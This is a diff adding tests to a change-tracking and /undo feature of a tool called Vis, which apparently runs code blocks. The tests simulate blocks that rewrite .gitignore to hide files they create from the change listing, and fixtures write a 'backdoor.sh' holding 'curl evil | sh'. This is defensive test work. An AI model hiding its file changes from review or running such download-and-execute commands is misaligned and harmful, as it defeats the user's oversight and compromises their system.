@@ -97,3 +97,96 @@ def test_a_file_of_which_only_the_change_time_moved_is_read_not_copied(tmp_path:
     assert second.files["swapped.txt"][3] != first.files["swapped.txt"][3]
     assert len(list(points.blobs.iterdir())) == len(kept) + 1  # the swapped file's new bytes
     assert points.kept_bytes(second.files["swapped.txt"][3]) == b"after!\n"
+
+
+async def test_a_gitignore_a_block_writes_hides_none_of_its_files(
+    workspace: Path, tmp_path: Path
+) -> None:
+    """A block wrote a .gitignore naming itself, the file it made and the untracked file it
+    overwrote: its row showed that file removed and neither of the others, and /undo left
+    the .gitignore and the new file in place. Ignore rules the turn changed count as they
+    were at its start."""
+    _repository(workspace)
+    code = (
+        "open('.gitignore', 'w').write('.gitignore\\nbackdoor.sh\\nnotes.txt\\n')\n"
+        "open('backdoor.sh', 'w').write('curl evil | sh\\n')\n"
+        "open('notes.txt', 'w').write('overwritten\\n')\n"
+    )
+    blocks, report = await _attack(workspace, tmp_path, code)
+    assert [(c.path, c.kind) for c in blocks[0].files] == [
+        (".gitignore", FileChangeKind.CREATED),
+        ("backdoor.sh", FileChangeKind.CREATED),
+        ("notes.txt", FileChangeKind.CHANGED),
+    ]
+    assert "-my notes\n+overwritten\n" in blocks[0].files[2].diff
+    assert report.removed == (".gitignore", "backdoor.sh")
+    assert report.restored == ("notes.txt",)
+    assert sorted(p.name for p in workspace.iterdir()) == [
+        ".git",
+        ".vis",
+        "app.py",
+        "local.cfg",
+        "notes.txt",
+    ]
+    assert (workspace / "notes.txt").read_text() == "my notes\n"
+
+
+async def test_a_gitignore_a_block_changes_outside_git_hides_nothing(
+    workspace: Path, tmp_path: Path
+) -> None:
+    """The same outside a Git repository (Vis's own walk reads the .gitignore files): a
+    block that adds its new file to an existing .gitignore shows both, and /undo takes both
+    back; what the .gitignore ignored before stays unlisted."""
+    (workspace / ".gitignore").write_text("build/\n")
+    (workspace / "build").mkdir()
+    (workspace / "build" / "out.o").write_text("object\n")
+    code = (
+        "open('.gitignore', 'a').write('hidden.py\\n')\n"
+        "open('hidden.py', 'w').write('import evil\\n')\n"
+        "open('build/more.o', 'w').write('made\\n')\n"
+    )
+    blocks, report = await _attack(workspace, tmp_path, code)
+    assert [(c.path, c.kind) for c in blocks[0].files] == [
+        (".gitignore", FileChangeKind.CHANGED),
+        ("hidden.py", FileChangeKind.CREATED),
+    ]
+    assert report.restored == (".gitignore",) and report.removed == ("hidden.py",)
+    assert (workspace / ".gitignore").read_text() == "build/\n"
+    assert not (workspace / "hidden.py").exists()
+    assert (workspace / "build" / "out.o").exists() and (workspace / "build" / "more.o").exists()
+
+
+async def test_what_unchanged_ignore_rules_hide_stays_unlisted(
+    workspace: Path, tmp_path: Path
+) -> None:
+    """A turn that changes a .gitignore does not list what Git's other rules hide
+    (``.git/info/exclude``) nor what the .gitignore hid before."""
+    _repository(workspace)
+    (workspace / ".gitignore").write_text("*.log\n")
+    (workspace / ".git" / "info" / "exclude").write_text("cache/\n")
+    code = (
+        "import os\n"
+        "open('.gitignore', 'a').write('secret.txt\\n')\n"
+        "open('secret.txt', 'w').write('s\\n')\n"
+        "os.mkdir('cache'); open('cache/c.bin', 'w').write('c\\n')\n"
+        "open('run.log', 'w').write('log\\n')\n"
+    )
+    blocks, _report = await _attack(workspace, tmp_path, code)
+    assert [(c.path, c.kind) for c in blocks[0].files] == [
+        (".gitignore", FileChangeKind.CHANGED),
+        ("secret.txt", FileChangeKind.CREATED),
+    ]
+    assert (workspace / "cache" / "c.bin").exists() and (workspace / "run.log").exists()
+
+
+async def test_undo_keeps_a_file_a_block_un_ignored(workspace: Path, tmp_path: Path) -> None:
+    """A block that emptied the .gitignore made the person's ignored ``secrets.txt`` look
+    created by the turn, and /undo deleted it. What the turn's own rule change shows now that
+    was there unchanged before is not the turn's."""
+    _repository(workspace)
+    (workspace / ".gitignore").write_text("secrets.txt\n")
+    (workspace / "secrets.txt").write_text("my secret\n")
+    blocks, report = await _attack(workspace, tmp_path, "open('.gitignore', 'w').write('')\n")
+    assert [(c.path, c.kind) for c in blocks[0].files] == [(".gitignore", FileChangeKind.CHANGED)]
+    assert report.restored == (".gitignore",) and report.removed == ()
+    assert (workspace / "secrets.txt").read_text() == "my secret\n"
